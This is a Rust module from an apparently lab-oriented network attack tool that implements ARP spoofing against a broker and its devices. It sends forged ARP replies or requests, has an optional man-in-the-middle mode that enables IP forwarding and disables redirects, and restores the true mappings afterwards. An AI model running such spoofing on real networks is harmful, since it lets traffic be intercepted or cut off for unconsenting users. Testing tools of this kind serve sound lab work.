//! False ARP announcements: the attacker's hardware address for the broker's or a device's address. At the end the
//! attacker takes its claims back, where it knows the truth.

use std::fs;
use std::net::{IpAddr, Ipv4Addr, UdpSocket};
use std::time::Duration;

use clap::Args;
use serde::{Deserialize, Serialize};

use super::raw::{RawLink, arp};
use super::{Deed, Meter, Place, defaults};
use crate::stop::{Pacer, Stop};

/// Whose address is claimed.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Claim {
    /// The broker's, to everyone.
    Broker,
    /// The devices', to everyone.
    Devices,
    /// Both, each to the other: the man in the middle.
    Both,
}

/// Options of the false announcements.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct ArpSpoof {
    /// Announcements in all
    #[arg(long, default_value_t = 20, value_parser = clap::value_parser!(u32).range(1..=10_000))]
    pub count: u32,
    /// Whose address is claimed
    #[arg(long, value_enum, default_value = "broker")]
    pub claim: Claim,
    /// Requests instead of replies: some systems believe these more
    #[arg(long)]
    pub requests: bool,
    /// Forward what comes for the victims, as a man in the middle does; otherwise they lose each other
    #[arg(long)]
    pub forward: bool,
    /// Announcements a second
    #[arg(long, default_value_t = 4.0)]
    pub rate: f64,
    /// Do not take the claims back at the end
    #[arg(long)]
    pub leave: bool,
    /// Stop after so many seconds
    #[arg(long, default_value_t = 8)]
    pub secs: u32,
}

impl Default for ArpSpoof {
    fn default() -> Self {
        defaults()
    }
}

const EVERYONE: [u8; 6] = [0xFF; 6];

impl Deed for ArpSpoof {
    fn label(&self) -> (&'static str, &'static str) {
        ("arp_spoof", "N5")
    }

    fn secs(&self) -> u32 {
        self.secs
    }

    fn raw(&self) -> bool {
        true
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let (Ok(link), Ok(broker)) = (RawLink::open(place.target), place.target.raw()) else {
            return Meter::count(&meter.failed);
        };
        let devices: Vec<Ipv4Addr> = place
            .known
            .hosts
            .iter()
            .filter_map(|host| if let IpAddr::V4(host) = host { Some(*host) } else { None })
            .collect();
        let claimed: Vec<Ipv4Addr> = match self.claim {
            Claim::Devices if !devices.is_empty() => devices,
            Claim::Both if !devices.is_empty() => std::iter::once(broker).chain(devices).collect(),
            Claim::Broker | Claim::Devices | Claim::Both => vec![broker],
        };
        // A datagram makes the kernel ask who has the address: the truth, for the end.
        for ip in &claimed {
            let asked = UdpSocket::bind((place.source_v4(), 0)).and_then(|own| own.send_to(&[0], (*ip, 67)));
            if asked.is_err() {
                Meter::count(&meter.failed);
            }
        }
        if !stop.sleep(Duration::from_millis(50)) {
            return;
        }
        let truth: Vec<_> = claimed.iter().filter_map(|ip| known_mac(*ip).map(|mac| (mac, *ip))).collect();
        if self.forward && forward().is_err() {
            Meter::count(&meter.failed);
        }
        let operation = if self.requests { 1 } else { 2 };
        let mut pacer = Pacer::new(self.rate.max(0.01));
        for ip in claimed.iter().cycle() {
            if !pacer.turn(stop) || !meter.take(u64::from(self.count)) {
                break;
            }
            let sent = link.send(&arp(operation, EVERYONE, (link.mac(), *ip), ([0; 6], *ip)));
            meter.tell(&sent);
        }
        if !self.leave {
            for (mac, ip) in truth {
                let frame = arp(operation, EVERYONE, (mac, ip), ([0; 6], ip));
                if link.send(&frame).is_err() {
                    Meter::count(&meter.failed);
                }
            }
        }
    }
}

/// Lets this network namespace, which is the laboratory's, pass packets on, without telling the sender of a better way.
fn forward() -> std::io::Result<()> {
    fs::write("/proc/sys/net/ipv4/conf/all/send_redirects", "0")?;
    fs::write("/proc/sys/net/ipv4/conf/eth0/send_redirects", "0")?;
    fs::write("/proc/sys/net/ipv4/ip_forward", "1")
}

/// The hardware address that this host has for another, if they have spoken.
fn known_mac(ip: Ipv4Addr) -> Option<[u8; 6]> {
    let table = fs::read_to_string("/proc/thread-self/net/arp").ok()?;
    mac_in(&table, ip)
}

fn mac_in(table: &str, ip: Ipv4Addr) -> Option<[u8; 6]> {
    let ip = ip.to_string();
    let line = table.lines().find(|line| line.split_whitespace().next() == Some(&ip))?;
    let mut mac = [0; 6];
    let mut parts = line.split_whitespace().nth(3)?.split(':');
    for byte in &mut mac {
        *byte = u8::from_str_radix(parts.next()?, 16).ok()?;
    }
    (mac != [0; 6]).then_some(mac)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hardware_address_is_read_from_the_kernel_s_table() {
        let table = "IP address       HW type     Flags       HW address            Mask     Device\n\
                     10.77.1.1        0x1         0x2         4e:8f:00:0a:bc:01     *        eth0\n\
                     10.77.1.9        0x1         0x0         00:00:00:00:00:00     *        eth0\n";
        assert_eq!(mac_in(table, Ipv4Addr::new(10, 77, 1, 1)), Some([0x4E, 0x8F, 0, 0x0A, 0xBC, 1]));
        assert_eq!(mac_in(table, Ipv4Addr::new(10, 77, 1, 9)), None);
        assert_eq!(mac_in(table, Ipv4Addr::new(10, 77, 1, 7)), None);
    }
}
